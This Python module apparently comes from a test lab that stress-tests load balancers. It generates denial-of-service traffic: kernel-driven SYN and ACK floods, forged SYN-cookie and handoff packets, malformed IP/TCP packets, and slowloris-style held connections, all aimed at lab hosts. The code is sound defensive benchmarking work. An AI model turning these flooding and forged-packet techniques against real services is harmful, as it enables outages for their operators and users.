"""What an attacker of the lab sends: frames by the kernel, or packets and connections by hand.

Floods are sent by the kernel (XDP on live frames), each frame with another source and, where it has
them, other ports and numbers (lab/bpf/flood.bpf.c).
"""

import socket
import struct
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, nullcontext
from itertools import count
from threading import Event
from typing import NamedTuple

from pyroute2 import netns

from common.bpf import build
from common.bpf.links import Mode, attach_xdp
from common.bpf.objects import Object, XdpMd
from common.cluster import cookie
from common.cluster.cookie import Offer
from common.cluster.secrets import load_secrets
from common.wire import options, tcp
from common.wire.checksum import checksum
from common.wire.options import Options
from common.wire.tcp import ACK, PSH, SYN
from lab.contenders import Contender
from lab.node import REPOSITORY, Node
from lab.topology import DSCP, Lab

ATTACKER = "192.168.33.102"
_FLOOD = REPOSITORY / "lab/bpf/flood.bpf.c"
_NET = "10.66.0.0/16"
_SOURCE = "10.66.255.1"  # of real connections: another network than the clients'
_BURST_S = 0.05  # each burst takes the kernel some ms to set up
_MOST = 10_000_000  # frames a second: more than the machine can send
_CONNECTIONS = 2000
_GIVE_UP_MS = 1500  # with what is not acknowledged
_HELD_RATE = 8000  # packets a second: 4 Mbit/s
_HELD_PACKETS = 4000  # of one connection
_SYN_OPTIONS = options.emit(Options(1460, True, (1, 0), 7))


class Attack(NamedTuple):
    """flags, dscp, payload, option_octets: of the packets. rate: frames a second; 0: no frames.

    alter: what is done to a packet. net: where sources are; network and mask of what varies.
    is_unfinished: whether the checksum is left to others. by_hand: sends in place of the kernel.
    after_s: how long it takes until nothing is left of it.
    """

    name: str
    rate: int = 0
    flags: int = ACK
    dscp: int = 0
    payload: bytes = b""
    option_octets: bytes = b""
    alter: Callable[[bytes], bytes] = bytes
    net: tuple[int, int] = (0x0A420000, 0xFFFF)
    is_unfinished: bool = False
    by_hand: Callable[[Lab, Contender, Event, bool], int] | None = None
    after_s: int = 0


# --- the attacker ---


class Attacker:
    """A host whose interface can send frames; answers end there."""

    def __init__(self, lab: Lab, program_file: Object) -> None:
        self._lab = lab
        self._flood = program_file.program("flood")
        self._variables = {name: program_file.shared_variable(name)
                           for name in ("net", "mask", "is_unfinished", "is_aside")}

    def run(
        self, attack: Attack, contender: Contender, seconds: int, stop: Event,
        is_aside: bool = False,
    ) -> float:
        """Attack until stopped, or for so long. Returns: packets or connections a second."""
        with self._kept_aside(contender) if is_aside else nullcontext():
            return self._run(attack, contender, seconds, stop, is_aside)

    @contextmanager
    def _kept_aside(self, contender: Contender) -> Iterator[None]:
        """Nothing that the attacker sends gets far, nor need anybody say where the address is."""
        neighbour = [contender.address, "dev", "eth1"]
        self._lab.client2.run(["ip", "neighbour", "replace", *neighbour,
                               "lladdr", "02:00:00:00:00:01"])
        self._variables["is_aside"][:] = (1).to_bytes(4, "little")
        try:
            yield
        finally:
            self._variables["is_aside"][:] = bytes(4)
            self._lab.client2.run(["ip", "neighbour", "del", *neighbour])

    def _run(
        self, attack: Attack, contender: Contender, seconds: int, stop: Event, is_aside: bool
    ) -> float:
        start = time.monotonic()
        netns.pushns(self._lab.client2.namespace)
        try:
            if attack.by_hand:
                sent = attack.by_hand(self._lab, contender, stop, is_aside)
            elif attack.rate:
                sent = self._send(attack, contender, start + seconds, stop)
            else:
                return 0.0
        finally:
            netns.popns()
        return sent / (time.monotonic() - start)

    def _send(self, attack: Attack, contender: Contender, end: float, stop: Event) -> int:
        """Send at a rate, or as fast as it goes."""
        for name, value in (("net", attack.net[0]), ("mask", attack.net[1]),
                            ("is_unfinished", int(attack.is_unfinished))):
            self._variables[name][:] = value.to_bytes(4, "little")
        frame = _frame(self._lab, contender, attack)
        index = socket.if_nametoindex("eth1")
        burst, sent, due = int(attack.rate * _BURST_S), 0, time.monotonic()
        while not stop.is_set() and time.monotonic() < end:
            self._flood.run_live(frame, XdpMd(ingress_ifindex=index), repeat=burst)
            sent += burst
            due += _BURST_S
            time.sleep(max(0.0, due - time.monotonic()))
        return sent


@contextmanager
def attacker(lab: Lab) -> Iterator[Attacker]:
    """One, on the lab's second client."""
    for host in (lab.balancer, *lab.backends):
        host.run(["ip", "route", "add", _NET, "via", ATTACKER])
    lab.client2.run(["ip", "address", "add", f"{_SOURCE}/32", "dev", "eth1"])
    with Object(build.compile(_FLOOD)) as program_file:
        program_file.load()
        netns.pushns(lab.switch.namespace)
        try:
            link, _ = attach_xdp(program_file.program("pass"),
                                 socket.if_nametoindex("p-client2"), Mode.NATIVE)
        finally:
            netns.popns()
        yield Attacker(lab, program_file)
        link.close()


def _frame(lab: Lab, contender: Contender, attack: Attack) -> bytes:
    """What is sent, but for the numbers. A handoff goes to the bridge, past the balancer."""
    is_handoff, backend = bool(attack.dscp), lab.backends[0]
    address = contender.address
    if is_handoff and contender.is_ours:
        address = backend.address
    host = lab.balancer if contender.balancing and not is_handoff else backend
    ends = (bytes(4) + socket.inet_aton(address) + bytes(2) + contender.port.to_bytes(2))
    packet = tcp.emit(ends, 0, 0, attack.flags, window=64240, option_octets=attack.option_octets,
                      payload=attack.payload, tos=attack.dscp << 2)
    return _mac(host) + b"\x02" + bytes(5) + b"\x08\x00" + attack.alter(packet)


def _mac(host: Node) -> bytes:
    text = host.run(["cat", "/sys/class/net/eth1/address"]).strip()
    return bytes.fromhex(text.replace(":", ""))


# --- packets as they should not be ---


def with_header(packet: bytes, off: int, octets: bytes) -> bytes:
    """A packet with other octets in its IP header, whose checksum is made to fit."""
    changed = bytearray(packet)
    changed[off:off + len(octets)] = octets
    header = (changed[0] & 15) * 4
    changed[10:12] = bytes(2)
    changed[10:12] = checksum(bytes(changed[:header])).to_bytes(2)
    return bytes(changed)


def with_ip_options(packet: bytes) -> bytes:
    """Four octets of options that say nothing."""
    longer = packet[:20] + b"\1\1\1\0" + packet[20:]
    return with_header(longer, 0, b"\x46" + longer[1:2] + len(longer).to_bytes(2))


def as_icmp_error(packet: bytes) -> bytes:
    """An error about a packet of the VIP's that has this packet's ends."""
    quoted = packet[:12] + packet[16:20] + packet[12:16] + packet[22:24] + packet[20:22] + bytes(4)
    message = b"\3\1" + bytes(6) + quoted
    message = message[:2] + checksum(message).to_bytes(2) + message[4:]
    error = packet[:20] + message
    return with_header(with_header(error, 2, len(error).to_bytes(2)), 9, b"\1")


# --- by hand ---


def leave_open(payload: bytes) -> Callable[[Lab, Contender, Event, bool], int]:
    """Real connections, one after the other, whose first payload stays as it is.

    In the end the kernel gives all of them up, so that none is left beside the next attack.
    """
    def attack(lab: Lab, contender: Contender, stop: Event, is_aside: bool) -> int:
        connections: list[socket.socket] = []
        made = 0
        with socket.create_server((_SOURCE, 0), backlog=4096) as server:
            server.setblocking(False)
            where = server.getsockname() if is_aside else (contender.address, contender.port)
            while not stop.is_set():
                connection = _connection(where, payload)
                if connection is None:
                    continue
                connections.append(connection)
                made += 1
                if is_aside:
                    connections.append(server.accept()[0])
                while len(connections) > _CONNECTIONS:
                    connections.pop(0).close()
        for connection in connections:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("=ii", 1, 0))
            connection.close()  # by a reset
        return made

    return attack


def _connection(where: tuple[str, int], payload: bytes) -> socket.socket | None:
    """One that has sent this, if it can be had."""
    connection = socket.socket()
    connection.settimeout(1)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_USER_TIMEOUT, _GIVE_UP_MS)
    try:
        connection.bind((_SOURCE, 0))
        connection.connect(where)
        connection.send(payload)
    except OSError:
        connection.close()
        return None
    return connection


def repeat_held(lab: Lab, contender: Contender, stop: Event, is_aside: bool) -> int:
    """One connection at a time whose key is never complete: a hole, octets behind it, and again."""
    secrets, sent = load_secrets(lab.secret_file), 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in count():
            source = socket.inet_aton("10.66.0.0")[:2] + struct.pack("!H", 1 + number % 60_000)
            ends = (source + socket.inet_aton(contender.address)
                    + struct.pack("!HH", 40_000, contender.port))
            epoch = cookie.epoch_at(time.time_ns() // 1_000_000)
            isn = cookie.encode(secrets, ends, 0, epoch, Offer(1460, True, 7))
            packets = [_part(ends, isn, 1, b"GET /never"),
                       *(_part(ends, isn, 100 + at, b"x") for at in range(500))]
            for packet in _paced(packets):
                if stop.is_set():
                    return sent
                raw.sendto(packet, (contender.address, 0))
                sent += 1
    return sent


def _part(ends: bytes, isn: int, seq: int, payload: bytes) -> bytes:
    return tcp.emit(ends, seq, isn + 1, ACK | PSH, window=502, payload=payload)


def _paced(packets: Sequence[bytes]) -> Iterator[bytes]:
    """All of them again and again, at _HELD_RATE."""
    due = time.monotonic()
    for place in range(_HELD_PACKETS):
        if place % 80 == 0:
            due += 80 / _HELD_RATE
            time.sleep(max(0.0, due - time.monotonic()))
        yield packets[place % len(packets)]


_REQUEST = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"
_ODD_OPTIONS = b"\x08\x0a" + bytes(8) + b"\1\1"  # timestamps before their padding
_ECHO = options.emit(Options(timestamps=(1, (1 << 24) + 5000)))
NONE = Attack("none")
ATTACKS = (
    NONE,
    Attack("SYNs, 200,000/s", 200_000, SYN, option_octets=_SYN_OPTIONS),
    Attack("SYNs, as many as go", _MOST, SYN, option_octets=_SYN_OPTIONS),
    Attack("ACKs with random cookies", 200_000),
    Attack("ACKs that name a backend", 200_000, option_octets=_ECHO),
    Attack("forged handoffs", 200_000, ACK | PSH, DSCP, _REQUEST),
    Attack("odd TCP options", 80_000, option_octets=_ODD_OPTIONS),
    Attack("unfinished checksums", 80_000, is_unfinished=True),
    Attack("SYNs, unfinished checksums", 80_000, SYN, option_octets=_SYN_OPTIONS,
           is_unfinished=True),
    Attack("fragments", 80_000, payload=bytes(8),
           alter=lambda packet: with_header(packet, 6, b"\0\x10")),
    Attack("IP options", 80_000, alter=with_ip_options),
    Attack("TTL 1", 80_000, alter=lambda packet: with_header(packet, 8, b"\1")),
    Attack("ICMP errors", 80_000, alter=as_icmp_error),
    Attack("sources of 240.0.0.0/4", 80_000, net=(0xF0000000, 0x0FFFFFFF)),
    Attack("first payloads that never complete", by_hand=leave_open(b"GET /unfinished"),
           after_s=11),  # as long as a request is held, and more
    Attack("a held connection that repeats itself", by_hand=repeat_held),
)
